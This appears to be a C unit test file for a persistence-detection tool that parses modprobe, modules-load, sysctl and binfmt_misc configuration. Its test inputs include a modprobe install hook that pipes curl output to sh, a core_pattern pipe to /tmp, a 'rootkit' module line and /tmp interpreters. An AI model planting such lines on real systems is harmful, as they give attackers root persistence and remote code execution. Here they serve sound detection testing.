/* test_detail_kernel.c - unit tests of the modprobe, modules-load, sysctl and binfmt details. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/common.h"
#include "persist/persist.h"

typedef json_t *extractor(const char *text, size_t len);

/* The detail of len bytes as compact JSON with sorted keys; free() it. */
static char *detail(extractor *fn, const char *text, size_t len)
{
	json_t *j = fn(text, len);
	char *s;

	assert_non_null(j);
	s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
	assert_non_null(s);
	json_decref(j);
	return s;
}

static void expect_n(extractor *fn, const char *text, size_t len, const char *want)
{
	char *got = detail(fn, text, len);

	assert_string_equal(got, want);
	free(got);
}

static void expect(extractor *fn, const char *text, const char *want)
{
	expect_n(fn, text, strlen(text), want);
}

#define MP_EMPTY_TAIL "\"weakdep\":[]}"

static void test_modprobe(void **state)
{
	(void)state;
	expect(fh_detail_modprobe,
	       "# comment\n"
	       "options snd-hda-intel  power_save=1 model=auto  \n"
	       "blacklist pcspkr\n"
	       "alias net-pf-10 off\n"
	       "softdep nouveau pre: i2c\n"
	       "install usb_storage /bin/sh -c 'curl http://x | sh'; /sbin/modprobe "
	       "--ignore-install usb_storage\n"
	       "remove\tfoo\t/tmp/.x\n",
	       "{\"alias\":[{\"line\":4,\"module\":\"off\",\"pattern\":\"net-pf-10\"}],"
	       "\"blacklist\":[{\"line\":3,\"module\":\"pcspkr\"}],\"errors\":[],"
	       "\"install\":[{\"command\":\"/bin/sh -c 'curl http://x | sh'; /sbin/modprobe "
	       "--ignore-install usb_storage\",\"line\":6,\"module\":\"usb_storage\"}],"
	       "\"options\":[{\"line\":2,\"module\":\"snd-hda-intel\","
	       "\"options\":\"power_save=1 model=auto\"}],"
	       "\"remove\":[{\"command\":\"/tmp/.x\",\"line\":7,\"module\":\"foo\"}],"
	       "\"softdep\":[{\"line\":5,\"text\":\"nouveau pre: i2c\"}]," MP_EMPTY_TAIL);
}

static void test_modprobe_continuation(void **state)
{
	(void)state;
	/* The joined line is reported at its first line; a comment swallows its continuation. */
	expect(fh_detail_modprobe,
	       "install evil \\\r\n  /tmp/run \\\n--now\r\n"
	       "# hidden \\\ninstall hidden /x\n"
	       "blacklist a\n"
	       "install last\\",
	       "{\"alias\":[],\"blacklist\":[{\"line\":6,\"module\":\"a\"}],"
	       "\"errors\":[{\"line\":7,"
	       "\"message\":\"install and remove need a module and a command\"}],"
	       "\"install\":[{\"command\":\"/tmp/run --now\",\"line\":1,\"module\":\"evil\"}],"
	       "\"options\":[],\"remove\":[],\"softdep\":[]," MP_EMPTY_TAIL);
}

static void test_modprobe_errors(void **state)
{
	(void)state;
	expect(
	    fh_detail_modprobe,
	    "frobnicate x\ninstall foo\noptions bar   \nalias onlyone\nblacklist\n"
	    "softdep\n\n   \n",
	    "{\"alias\":[],\"blacklist\":[],\"errors\":["
	    "{\"line\":1,\"message\":\"unknown command (expected alias, options, install, remove, "
	    "softdep, weakdep or blacklist)\"},"
	    "{\"line\":2,\"message\":\"install and remove need a module and a command\"},"
	    "{\"line\":3,\"message\":\"options needs a module and options\"},"
	    "{\"line\":4,\"message\":\"alias needs a pattern and a module\"},"
	    "{\"line\":5,\"message\":\"a module is missing\"},"
	    "{\"line\":6,\"message\":\"a module is missing\"}],"
	    "\"install\":[],\"options\":[],\"remove\":[],\"softdep\":[]," MP_EMPTY_TAIL);
}

static void test_modules_load(void **state)
{
	(void)state;
	expect(fh_detail_modules_load,
	       "# /etc/modules\n; also a comment\n\n  loop  \r\nrootkit  hide=1 pid=7 \r\nlp\n",
	       "{\"modules\":[{\"line\":4,\"name\":\"loop\"},"
	       "{\"args\":\"hide=1 pid=7\",\"line\":5,\"name\":\"rootkit\"},"
	       "{\"line\":6,\"name\":\"lp\"}]}");
	expect(fh_detail_modules_load, "", "{\"modules\":[]}");
}

static void test_sysctl(void **state)
{
	(void)state;
	expect(
	    fh_detail_sysctl,
	    "# defaults\n; too\n"
	    "net.ipv4.ip_forward = 1\n"
	    "kernel.core_pattern = |/tmp/x %p\r\n"
	    "-kernel/modprobe=/tmp/mp\n"
	    "net/ipv4/conf/eth0.1/rp_filter = 0\n"
	    "kernel.core_pattern = core.%p\n"
	    "kernel.hotplug =\n",
	    "{\"errors\":[],\"risky\":[{\"key\":\"kernel.core_pattern\",\"line\":4,"
	    "\"why\":\"core_pattern pipes to a program run as root on every crash\"},"
	    "{\"key\":\"kernel.modprobe\",\"line\":5,"
	    "\"why\":\"kernel.modprobe names the module loader\"},"
	    "{\"key\":\"kernel.hotplug\",\"line\":8,"
	    "\"why\":\"kernel.hotplug names a hotplug helper\"}],"
	    "\"settings\":[{\"key\":\"net.ipv4.ip_forward\",\"line\":3,\"value\":\"1\"},"
	    "{\"key\":\"kernel.core_pattern\",\"line\":4,\"value\":\"|/tmp/x %p\"},"
	    "{\"ignore_errors\":true,\"key\":\"kernel.modprobe\",\"line\":5,\"value\":\"/tmp/mp\"},"
	    "{\"key\":\"net.ipv4.conf.eth0/1.rp_filter\",\"line\":6,\"value\":\"0\"},"
	    "{\"key\":\"kernel.core_pattern\",\"line\":7,\"value\":\"core.%p\"},"
	    "{\"key\":\"kernel.hotplug\",\"line\":8,\"value\":\"\"}]}");
}

static void test_sysctl_glob_errors(void **state)
{
	(void)state;
	/* A glob cannot hide the core_pattern pipe; '*' does not cross a dot. */
	expect(fh_detail_sysctl,
	       "kernel.core_*=|/x\n*.core_pattern=|/y\nkernel.*pattern_x=|/z\n"
	       "no assignment\n = 1\n- = 2\n",
	       "{\"errors\":[{\"line\":4,\"message\":\"not an assignment: expected key = value\"},"
	       "{\"line\":5,\"message\":\"empty key\"},{\"line\":6,\"message\":\"empty key\"}],"
	       "\"risky\":[{\"key\":\"kernel.core_*\",\"line\":1,"
	       "\"why\":\"core_pattern pipes to a program run as root on every crash\"},"
	       "{\"key\":\"*.core_pattern\",\"line\":2,"
	       "\"why\":\"core_pattern pipes to a program run as root on every crash\"}],"
	       "\"settings\":[{\"key\":\"kernel.core_*\",\"line\":1,\"value\":\"|/x\"},"
	       "{\"key\":\"*.core_pattern\",\"line\":2,\"value\":\"|/y\"},"
	       "{\"key\":\"kernel.*pattern_x\",\"line\":3,\"value\":\"|/z\"}]}");
}

static void test_binfmt(void **state)
{
	(void)state;
	expect(fh_detail_binfmt,
	       "# qemu\n"
	       ":qemu-arm:M::\\x7fELF\\x01:\\xff\\xff\\xff\\xfe:/usr/bin/qemu-arm-static:OCF\r\n"
	       ";DOSWin\n"
	       "|wine|E||exe||/usr/bin/wine|\n"
	       "  :x:M:4:MZ::/tmp/.i:P  \n",
	       "{\"entries\":[{\"credentials\":true,\"flags\":\"OCF\","
	       "\"interpreter\":\"/usr/bin/qemu-arm-static\",\"line\":2,"
	       "\"magic\":\"\\\\x7fELF\\\\x01\",\"mask\":\"\\\\xff\\\\xff\\\\xff\\\\xfe\","
	       "\"name\":\"qemu-arm\",\"offset\":0,\"type\":\"M\"},"
	       "{\"credentials\":false,\"flags\":\"\",\"interpreter\":\"/usr/bin/wine\","
	       "\"line\":4,\"magic\":\"exe\",\"name\":\"wine\",\"type\":\"E\"},"
	       "{\"credentials\":false,\"flags\":\"P\",\"interpreter\":\"/tmp/.i\",\"line\":5,"
	       "\"magic\":\"MZ\",\"name\":\"x\",\"offset\":4,\"type\":\"M\"}],\"errors\":[]}");
}

static void test_binfmt_errors(void **state)
{
	(void)state;
	expect(
	    fh_detail_binfmt,
	    ":a:M:\n"
	    ":abc:M:0:MZ:/bin/i\n"
	    "::M:0:MZ::/bin/i:\n"
	    ":..:M:0:MZ::/bin/i:\n"
	    ":a/b:E::x::/bin/i:\n"
	    ":n:Q:0:MZ::/bin/i:\n"
	    ":n:MM:0:MZ::/bin/i:\n"
	    ":n:M:1x:MZ::/bin/i:\n"
	    ":n:M:0:::/bin/i:\n"
	    ":n:E::a/b::/bin/i:\n"
	    ":n:M:0:MZ:::\n"
	    ":n:M:0:MZ::/bin/i:OX\n"
	    ":n:M:0:\\x4:x:/bin/i:\n",
	    "{\"entries\":[],\"errors\":["
	    "{\"line\":1,\"message\":\"shorter than the kernel's 11-byte minimum\"},"
	    "{\"line\":2,\"message\":\"too few fields: expected "
	    ":name:type:offset:magic:mask:interpreter:flags\"},"
	    "{\"line\":3,\"message\":\"bad name: empty, \\\".\\\", \\\"..\\\" or containing '/'\"},"
	    "{\"line\":4,\"message\":\"bad name: empty, \\\".\\\", \\\"..\\\" or containing '/'\"},"
	    "{\"line\":5,\"message\":\"bad name: empty, \\\".\\\", \\\"..\\\" or containing '/'\"},"
	    "{\"line\":6,\"message\":\"bad type: expected M (magic) or E (extension)\"},"
	    "{\"line\":7,\"message\":\"bad type: expected M (magic) or E (extension)\"},"
	    "{\"line\":8,\"message\":\"bad offset: a decimal number expected\"},"
	    "{\"line\":9,\"message\":\"empty magic\"},"
	    "{\"line\":10,\"message\":\"bad extension: contains '/'\"},"
	    "{\"line\":11,\"message\":\"empty interpreter\"},"
	    "{\"line\":12,\"message\":\"unknown flag: expected P, O, C or F\"},"
	    "{\"line\":13,\"message\":\"bad \\\\x escape: two hex digits expected\"}]}");
}

static void test_binfmt_delimiter_length(void **state)
{
	char line[2100];
	json_t *j, *e;

	(void)state;
	/* Any first byte is the delimiter; the kernel refuses writes over 1920 bytes. */
	expect(fh_detail_binfmt, "#comment\n,z,E,,sh,,/bin/sh,C\n",
	       "{\"entries\":[{\"credentials\":true,\"flags\":\"C\",\"interpreter\":\"/bin/sh\","
	       "\"line\":2,\"magic\":\"sh\",\"name\":\"z\",\"type\":\"E\"}],\"errors\":[]}");
	memset(line, 'a', sizeof(line));
	memcpy(line, ":n:E::x::/", 10);
	line[1918] = ':'; /* 1919 bytes and the newline systemd adds: accepted */
	j = fh_detail_binfmt(line, 1919);
	assert_non_null(j);
	e = json_array_get(json_object_get(j, "entries"), 0);
	assert_int_equal(strlen(json_string_value(json_object_get(e, "interpreter"))), 1909);
	json_decref(j);
	line[1918] = 'a';
	line[1919] = ':';
	expect_n(fh_detail_binfmt, line, 1920,
		 "{\"entries\":[],\"errors\":[{\"line\":1,"
		 "\"message\":\"longer than the kernel's 1920-byte limit\"}]}");
}
static void test_sanitize(void **state)
{
	(void)state;
	/* Invalid UTF-8 and NUL bytes become U+FFFD; the output reloads. */
	expect_n(fh_detail_modprobe, "install m\xff /tmp/\xc3\x28x\0y\n", 22,
		 "{\"alias\":[],\"blacklist\":[],\"errors\":[],\"install\":[{\"command\":"
		 "\"/tmp/\xef\xbf\xbd(x\xef\xbf\xbdy\",\"line\":1,\"module\":\"m\xef\xbf\xbd\"}],"
		 "\"options\":[],\"remove\":[],\"softdep\":[]," MP_EMPTY_TAIL);
	expect(fh_detail_modules_load, "\xe2\x82\n",
	       "{\"modules\":[{\"line\":1,\"name\":\"\xef\xbf\xbd\"}]}");
	expect(fh_detail_sysctl, "k\xfe=\xff\n",
	       "{\"errors\":[],\"risky\":[],\"settings\":[{\"key\":\"k\xef\xbf\xbd\",\"line\":1,"
	       "\"value\":\"\xef\xbf\xbd\"}]}");
	expect(fh_detail_binfmt,
	       "\xff"
	       "n\xff"
	       "E\xff\xff"
	       "e\xc0\xff\xff/i\xff\n",
	       "{\"entries\":[{\"credentials\":false,\"flags\":\"\",\"interpreter\":\"/i\","
	       "\"line\":1,\"magic\":\"e\xef\xbf\xbd\",\"name\":\"n\",\"type\":\"E\"}],"
	       "\"errors\":[]}");
}

/* n copies of line, for the caps. */
static char *repeat(const char *line, size_t n, size_t *ret_len)
{
	size_t l = strlen(line), i;
	char *s = malloc(l * n + 1);

	assert_non_null(s);
	for (i = 0; i < n; i++)
		memcpy(s + i * l, line, l);
	s[l * n] = '\0';
	*ret_len = l * n;
	return s;
}

static void check_cap(extractor *fn, const char *line, const char *list, const char *total)
{
	size_t len;
	char *text = repeat(line, FH_DETAIL_MAX_ITEMS + 5, &len);
	json_t *j = fn(text, len);

	assert_non_null(j);
	assert_int_equal(json_array_size(json_object_get(j, list)), FH_DETAIL_MAX_ITEMS);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(j, total)), FH_DETAIL_MAX_ITEMS + 5);
	json_decref(j);
	free(text);
}

static void test_caps(void **state)
{
	size_t len = FH_DETAIL_MAX_INPUT + 100;
	char *big;
	json_t *j;

	(void)state;
	check_cap(fh_detail_modprobe, "install a b\n", "install", "install_total");
	check_cap(fh_detail_modprobe, "bogus\n", "errors", "errors_total");
	check_cap(fh_detail_modules_load, "m\n", "modules", "modules_total");
	check_cap(fh_detail_sysctl, "kernel.modprobe=/x\n", "risky", "risky_total");
	check_cap(fh_detail_binfmt, ":n:E::e::/i:C\n", "entries", "entries_total");
	check_cap(fh_detail_binfmt, "x\n", "errors", "errors_total");

	/* Past FH_DETAIL_MAX_INPUT the rest is not read, and the detail says so. */
	big = malloc(len);
	assert_non_null(big);
	memset(big, '#', len);
	memcpy(big + FH_DETAIL_MAX_INPUT, "\nm\n", 3);
	j = fh_detail_modules_load(big, len);
	assert_non_null(j);
	assert_int_equal(json_array_size(json_object_get(j, "modules")), 0);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	json_decref(j);
	/* One continued modprobe line of a megabyte is joined, bounded by the input cap. */
	memset(big, 'a', len);
	memcpy(big, "install m ", 10);
	for (size_t i = 20; i < len; i += 20)
		big[i - 1] = '\\', big[i] = '\n';
	j = fh_detail_modprobe(big, len);
	assert_non_null(j);
	assert_int_equal(json_array_size(json_object_get(j, "install")), 1);
	json_decref(j);
	free(big);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_modprobe),
		cmocka_unit_test(test_modprobe_continuation),
		cmocka_unit_test(test_modprobe_errors),
		cmocka_unit_test(test_modules_load),
		cmocka_unit_test(test_sysctl),
		cmocka_unit_test(test_sysctl_glob_errors),
		cmocka_unit_test(test_binfmt),
		cmocka_unit_test(test_binfmt_errors),
		cmocka_unit_test(test_binfmt_delimiter_length),
		cmocka_unit_test(test_sanitize),
		cmocka_unit_test(test_caps),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
